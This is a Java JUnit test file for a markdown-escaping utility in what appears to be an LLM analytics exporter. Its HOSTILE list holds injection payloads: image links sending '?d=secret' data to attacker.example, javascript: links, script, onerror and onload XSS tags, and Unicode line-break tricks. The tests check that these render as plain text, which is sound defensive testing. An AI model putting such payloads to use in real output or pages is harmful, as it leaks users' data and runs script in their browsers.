package io.llmanalytics.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Text written into markdown renders as that text and nothing else: checked on a table of inputs, and with two real
 * renderers (markdown-it-py, GFM tables and raw HTML on, and mistune 2, nbconvert's, with GFM bare autolinks) on hostile variants.
 */
class MarkdownTextTest {

    static final ObjectMapper JSON = new ObjectMapper();

    /** Links, images, raw HTML, autolinks, references, block markers, emphasis, code, math and line-break variants. */
    static final List<String> HOSTILE = List.of(
            "![x](https://attacker.example/leak?d=secret)",
            "![x](//attacker.example/leak.png)",
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            "[a](javascript:alert(1))",
            "[a](<javascript:alert(1)> \"title\")",
            "[a]( https://attacker.example 'title' )",
            "<img src=x onerror=alert(1)>",
            "<script>alert(1)</script>",
            "<iframe src=\"https://attacker.example\"></iframe>",
            "<svg onload=alert(1)>",
            "<div>\nblock <b>html</b>\n</div>",
            "<!-- hidden --> visible",
            "<https://attacker.example/autolink>",
            "<mailto:a@attacker.example>",
            "<a@attacker.example>",
            "bare https://attacker.example/leak?d=1 url",
            "bare www.attacker.example url",
            "mail user@attacker.example now",
            "ftp://attacker.example/f",
            "[x][r]\n\n[r]: https://attacker.example/ref",
            "![y][r]\n\n[r]: https://attacker.example/ref.png \"t\"",
            "[r]\n\n[r]: https://attacker.example/shortcut",
            "[^1]\n\n[^1]: https://attacker.example/footnote",
            "&#x6A;avascript:alert(1) and &lt;b&gt; and &amp;amp; and &copy;",
            "\\![x](https://attacker.example/escaped-backslash)",
            "\\\\![x](https://attacker.example/double)",
            "# heading\n## second\n###### sixth",
            "Setext\n===",
            "Setext\n---",
            "- item\n+ item\n* item",
            "1. one\n2) two",
            "> quoted\n>> twice",
            "***\n___\n- - -",
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "*em* _em_ **bold** __bold__ ~~strike~~ ~sub~",
            "`code` ``co`de``",
            "```python\nimport os\n```",
            "~~~\nfence\n~~~",
            "    indented four spaces",
            "$x^2$ and $$y$$ and \\(z\\)",
            "a\r![x](https://attacker.example/cr)",
            "a\r\n[l](https://attacker.example/crlf)",
            "a\u2028![x](https://attacker.example/ls)",
            "a\u2029![x](https://attacker.example/ps)",
            "a\u0085![x](https://attacker.example/nel)",
            "a\u000b![x](https://attacker.example/vt)\f<b>ff</b>",
            "nul\u0000 and esc\u001b[31m and del\u007f",
            "!\u200b[x](https://attacker.example/zero-width)",
            "\uff01[x]\uff08https://attacker.example\uff09 full width",
            "trailing two spaces  \nhard break\\\nbackslash break",
            "{curly} [square] (round) #hash +plus -minus .dot !bang |pipe",
            "Revenue is 1,234.5 (up 3%) for \"North\" & 'South' <= 10 >= 2");

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            plain words 123                  | plain words 123
            ![x](https://a.example/l?d=1)    | \\!\\[x\\]\\(https\\:\\/\\/a\\.example\\/l\\?d\\=1\\)
            "<b>&amp;</b>"                   | "&lt;b&gt;&amp;amp\\;&lt;\\/b&gt;"
            # title                          | \\# title
            1. item                          | 1\\. item
            *a* _b_ `c` ~d~                  | \\*a\\* \\_b\\_ \\`c\\` \\~d\\~
            a\\b                             | a\\\\b
            Ünïcödé €                        | Ünïcödé €
            """)
    void escapesEveryMarkdownSpecial(String text, String expected) {
        assertEquals(expected, MarkdownText.escape(text));
    }

    @Test
    void normalisesEveryLineBreakAndDropsControls() {
        assertEquals("a\nb\nc\nd\ne\nf\ng\nh", MarkdownText.escape("a\r\nb\rc\u0085d\u2028e\u2029f\u000bg\fh"));
        assertEquals("a b c", MarkdownText.escapeLine("a\r\nb\u2028c"));
        assertEquals("x y z", MarkdownText.escape("x\u0000y\u001bz"));
        assertEquals("", MarkdownText.escape(null));
        for (String text : HOSTILE) {
            String escaped = MarkdownText.escape(text);
            assertFalse(
                    escaped.contains("\r")
                            || escaped.contains("\u2028")
                            || escaped.contains("\u2029")
                            || escaped.contains("\u0085"),
                    escaped);
            assertFalse(MarkdownText.escapeLine(text).contains("\n"), text);
        }
    }

    @Test
    void hostileTextRendersAsTextInRealRenderers() throws Exception {
        List<String> markdown = new ArrayList<>();
        for (String text : HOSTILE) {
            markdown.add(MarkdownText.escape(text));
            markdown.add("## " + MarkdownText.escapeLine(text));
        }
        JsonNode rendered = render(markdown);
        for (int i = 0; i < markdown.size(); i++) {
            String text = HOSTILE.get(i / 2);
            String original = i % 2 == 0 ? text : text.replaceAll("[\r\n\u0085\u2028\u2029\u000b\f]+", " ");
            for (String renderer : List.of("markdown_it", "mistune")) {
                String html = rendered.get(i).get(renderer).asText();
                assertTextOnly(html, renderer + " of " + JSON.writeValueAsString(text));
                assertEquals(
                        words(original),
                        words(textOf(html)),
                        renderer + " shows the text itself: " + JSON.writeValueAsString(text) + " -> " + html);
            }
        }
    }

    private static final Pattern TAG = Pattern.compile("<\\s*/?\\s*([a-zA-Z0-9]+)[^>]*>");
    private static final Set<String> TEXT_TAGS = Set.of("p", "h2", "br", "pre", "code");

    /** Only paragraphs, the heading, line breaks and (for indented lines) a preformatted block: no link, image or HTML. */
    static void assertTextOnly(String html, String what) {
        Matcher m = TAG.matcher(html);
        while (m.find()) {
            assertTrue(TEXT_TAGS.contains(m.group(1).toLowerCase()), what + ": <" + m.group(1) + "> in " + html);
            assertTrue(m.group(0).matches("</?[a-z0-9]+\\s*/?>"), what + ": attributes in " + m.group(0));
        }
    }

    static String textOf(String html) {
        return TAG.matcher(html)
                .replaceAll(" ")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&quot;", "\"")
                .replace("&#39;", "'")
                .replace("&#x27;", "'")
                .replace("&amp;", "&");
    }

    /** The text with control characters and every run of white space as one space: what a reader sees. */
    static String words(String text) {
        return text.replaceAll("[\\p{Cc}\\s\u2028\u2029]+", " ").strip();
    }

    static JsonNode render(List<String> markdown) throws Exception {
        Path script = Path.of("src/test/resources/export/render_markdown.py").toAbsolutePath();
        Process p = new ProcessBuilder("/usr/bin/python3", script.toString()).start();
        p.getOutputStream().write(JSON.writeValueAsBytes(markdown));
        p.getOutputStream().close();
        byte[] out = p.getInputStream().readAllBytes();
        String err = new String(p.getErrorStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(p.waitFor(60, TimeUnit.SECONDS));
        assertEquals(0, p.exitValue(), err);
        return JSON.readTree(out);
    }
}
